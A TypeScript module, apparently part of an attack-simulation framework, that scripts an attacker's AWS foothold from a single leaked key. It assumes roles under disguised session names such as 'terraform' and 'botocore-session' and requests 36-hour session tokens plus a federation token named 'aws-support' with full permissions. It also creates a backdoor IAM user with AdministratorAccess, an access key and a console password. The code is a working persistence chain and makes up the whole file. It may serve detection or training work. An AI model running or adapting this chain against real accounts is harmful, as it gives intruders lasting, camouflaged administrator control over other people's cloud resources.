import {
	AttachUserPolicyCommand,
	CreateAccessKeyCommand,
	CreateLoginProfileCommand,
	CreateUserCommand,
	IAMClient,
	ListUsersCommand,
} from '@aws-sdk/client-iam';
import {
	AssumeRoleCommand,
	GetCallerIdentityCommand,
	GetFederationTokenCommand,
	GetSessionTokenCommand,
	STSClient,
} from '@aws-sdk/client-sts';
import type {Actor, Hand, Intent} from '../../actors/actor.ts';
import type {Beat} from '../../actors/timeline.ts';
import {policy, roleArn} from '../company/founding.ts';
import {NAMES} from './cast.ts';

/** Takes a role and keeps the session under `name`. */
export async function takeRole(
	hand: Hand,
	role: {readonly accountId: string; readonly role: string},
	name: string,
	session: string,
	hours = 1,
): Promise<void> {
	const {Credentials} = await hand.client(STSClient).send(
		new AssumeRoleCommand({
			RoleArn: roleArn(role.accountId, role.role),
			RoleSessionName: session,
			DurationSeconds: hours * 3600,
		}),
	);
	hand.take(name, 'session', Credentials);
}

/** Makes an access key for the attacker's own user. */
export async function mintKey(hand: Hand, name: string): Promise<void> {
	const {AccessKey} = await hand
		.client(IAMClient)
		.send(new CreateAccessKeyCommand({UserName: NAMES.backdoorUser}));
	hand.take(name, 'user-key', AccessKey);
}

/** From one key to six credentials: each would outlive the key alone (field guide §1). */
export function gainFoothold(attacker: Actor, accountId: string, password: string): Beat[] {
	const role = {accountId, role: NAMES.deployRole};
	const UserName = NAMES.backdoorUser;
	const iam = (act: (client: IAMClient) => Promise<unknown>): Intent => ({
		by: 'deploy-role',
		alone: true,
		act: hand => act(hand.client(IAMClient)),
	});
	const byKey = (act: Intent['act']): Intent => ({by: NAMES.key, alone: true, act});
	const intents: Intent[] = [
		byKey(hand => hand.client(STSClient).send(new GetCallerIdentityCommand({}))),
		byKey(hand => takeRole(hand, {accountId, role: NAMES.organizationRole}, 'organization', 'console')),
		byKey(hand => takeRole(hand, role, 'deploy-role', 'botocore-session-1732431804', 12)),
		iam(client => client.send(new ListUsersCommand({}))),
		byKey(async hand => {
			const {Credentials} = await hand
				.client(STSClient)
				.send(new GetSessionTokenCommand({DurationSeconds: 129_600}));
			hand.take('session', 'session', Credentials);
		}),
		byKey(async hand => {
			const {Credentials} = await hand.client(STSClient).send(
				new GetFederationTokenCommand({
					Name: 'aws-support',
					DurationSeconds: 129_600,
					Policy: policy({Effect: 'Allow', Action: '*', Resource: '*'}),
				}),
			);
			hand.take('federation', 'federation', Credentials);
		}),
		// The key itself may not; the role may.
		byKey(hand => hand.client(IAMClient).send(new CreateUserCommand({UserName}))),
		iam(client => client.send(new CreateUserCommand({UserName}))),
		iam(client =>
			client.send(
				new AttachUserPolicyCommand({UserName, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess'}),
			),
		),
		{by: 'deploy-role', alone: true, act: hand => mintKey(hand, 'backdoor')},
		iam(client =>
			client.send(
				new CreateLoginProfileCommand({UserName, Password: password, PasswordResetRequired: false}),
			),
		),
		{by: 'backdoor', alone: true, act: hand => hand.client(STSClient).send(new GetCallerIdentityCommand({}))},
		{by: 'backdoor', alone: true, act: hand => takeRole(hand, role, 'backdoor-role', 'terraform', 12)},
	];
	return intents.map((intent, index) => ({ago: 150 - index * 0.9, run: () => attacker.attempt(intent)}));
}
